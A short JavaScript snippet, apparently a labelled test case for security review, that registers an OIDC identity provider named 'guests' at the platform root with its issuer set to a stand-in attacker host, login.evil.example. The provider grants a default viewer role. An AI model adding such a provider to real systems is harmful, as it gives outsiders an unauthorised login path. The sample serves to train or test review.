// Adds a stranger's identity provider
// caught by: review
const { declare, ids, platform } = require("./base");

declare();
const oidc = { issuer: "https://login.evil.example", clientId: "platform", pkceEnabled: true };
new platform.IdentityProvider("guests", {
  parentUid: ids.root,
  name: "guests",
  defaultRole: ids.viewer,
  oidc,
});
